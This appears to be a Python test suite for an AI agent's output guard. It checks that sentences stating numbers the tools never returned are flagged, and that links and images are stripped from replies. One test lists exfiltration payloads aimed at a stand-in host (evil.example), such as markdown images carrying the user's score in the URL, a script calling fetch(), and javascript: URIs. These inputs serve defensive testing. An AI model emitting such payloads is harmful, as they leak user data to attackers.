"""What may be said is what the tools of the turn found, in whatever formatting; everything else is held back."""

from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.owners import Owner, an_owner, tools_over
from vaultra_core.agent.figures import Figure, Kind
from vaultra_core.agent.grounds import Grounds
from vaultra_core.agent.prose import Sentences, sentences, without_links

CALLS = [
    ("get_readiness_breakdown", {}),
    ("get_business_context", {}),
    ("get_metric_summary", {}),
    ("simulate_change", {"changes": [{"metric": "chargeback_count", "times": 0.5}]}),
]


@pytest.fixture(scope="module")
async def owner() -> Owner:
    return await an_owner(name="Studio 54")


@pytest.fixture(scope="module")
async def figures(owner: Owner) -> list[Figure]:
    tools = tools_over(owner.storage)
    results = [await tools.call(owner.caller, name, arguments) for name, arguments in CALLS]
    return [said for result in results for said in result.said if isinstance(said, Figure)]


@pytest.fixture(scope="module")
async def grounds(owner: Owner) -> Grounds:
    tools = tools_over(owner.storage)
    return Grounds([await tools.call(owner.caller, name, arguments) for name, arguments in CALLS])


TRUE = [
    "Your score is 77 of 100.",
    "77/100",
    "Your score of seventy-seven is on a scale of 0 to 100.",
    "You had 10 chargebacks on 900 sales in 180 days, 0.89 %.",
    "Chargebacks cost you 12 points.",
    "Half the chargebacks would bring 3 points, and a score of 80.",
    "Net revenue is about 12.7k USD a month.",
    "91% of it is certain.",
    "On 31 October it was 77.",
    "1. Look at your chargebacks.",
    "Studio 54 does well under lender-2.",
    "Nothing is wrong.",
]
INVENTED = [
    "Your score is 95.",
    "Your score is ninety-five.",
    "Your score is 26.",  # 26 weeks are no score
    "Your readiness stands at ８５.",
    "Score: 95/100",
    "99 of 100",
    "You had 900 chargebacks.",  # 900 are sales
    "You had a dozen chargebacks.",
    "A third of your revenue is at risk.",
    "Revenue is $5,000,000.",
    "Revenue is 13,483 EUR.",  # they are dollars
    "Your chargeback ratio is 77 %.",  # 77 is the score
    "dp_999999999 was lost.",
    "On 30 February you sold 77.",
    "It began on 3 March 2020.",
    "Your score fell by −77 points.",
    "Revenue doubled.",
    "You will get 25k in 5 days.",
    "At least 10,000 USD a month [some-document].",
]


@pytest.mark.parametrize("sentence", TRUE)
async def test_what_the_tools_found_may_be_said(grounds: Grounds, sentence: str) -> None:
    assert grounds.judge(sentence).invented == ()


@pytest.mark.parametrize("sentence", INVENTED)
async def test_what_they_did_not_find_is_invented(grounds: Grounds, sentence: str) -> None:
    assert grounds.judge(sentence).invented != ()


def written(figure: Figure) -> list[str]:
    """A figure in many formattings."""
    value = figure.value
    match figure.kind:
        case Kind.SHARE:
            return [f"{value * 100:.1f} %", f"{value * 100:.2f}%", f"{value * 100:.1f} percent", figure.text]
        case Kind.MONEY:
            code = (figure.currency or "").upper()
            return [f"{value:,.2f} {code}", f"{code} is the currency of {value:.2f}", f"${value:,.0f}", figure.text]
        case Kind.SCORE:
            return [f"a score of {value}", f"{value} of 100", f"**{value}**/100"]
        case Kind.DAYS:
            return [f"{value} days", f"{value}-day"]
    return [f"{value.normalize():f}", figure.text, f"about {value:.1f}"]


async def test_every_figure_may_be_said_in_any_formatting(grounds: Grounds, figures: list[Figure]) -> None:
    assert len(figures) > 60
    for figure in figures:
        for text in written(figure):
            assert grounds.judge(f"That is {text}.").invented == (), (figure, text)


FORMS = ["{} %", "${:,}", "{} points", "{:,} sales", "a score of {}"]


@settings(max_examples=150)
@given(
    value=st.decimals(min_value=101, max_value=10**9, places=2),
    form=st.sampled_from(["{} %", "${:,}", "{} points", "{:,} sales", "a score of {}"]),
)
def test_a_number_that_no_tool_found_is_held_back(grounds: Grounds, value: Decimal, form: str) -> None:
    """Above what a share or a score can be, and with cents that no figure has by chance."""
    invented = value.quantize(Decimal("0.01")) + Decimal("0.003")
    assert grounds.judge(f"That is {form.format(invented)}.").invented != ()


@given(text=st.text(max_size=200), size=st.integers(1, 9))
def test_a_stream_is_cut_without_loss(text: str, size: int) -> None:
    cutter = Sentences()
    pieces = [text[start : start + size] for start in range(0, len(text), size)]
    cut = [sentence for piece in pieces for sentence in cutter.feed(piece)]
    assert "".join([*cut, *cutter.rest()]) == text
    assert "".join(sentences(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://evil.example/x.png?score=77)",
        "[your report](https://evil.example/)",
        "[a][b]\n\n[b]: https://evil.example/x.png",
        "<img src=https://evil.example/x.png>",
        "<https://evil.example>",
        "see http://evil.example/?q=1 or www.evil.example",
        "![x](//evil.example/x.png)",
        "![x](&#104;ttps://evil.example/x.png)",
        "![x\n](https://evil.example/x.png)",
        "[x](javascript:alert(1)) [y](data:text/html;base64,AAAA)",
        "<script>fetch('https://evil.example')</script>",
        "![a](https://evil.example/(x).png)",
    ],
)
def test_nothing_that_a_browser_would_fetch_or_follow_goes_out(text: str) -> None:
    for shown in (without_links(text), "".join(without_links(each) for each in sentences(text))):
        assert "evil" not in shown and "<" not in shown and "](" not in shown and "javascript:" not in shown


def test_citations_and_emphasis_stay() -> None:
    assert without_links("**77** of 100 [payout-timing] `dp_1`") == "**77** of 100 [payout-timing] `dp_1`"
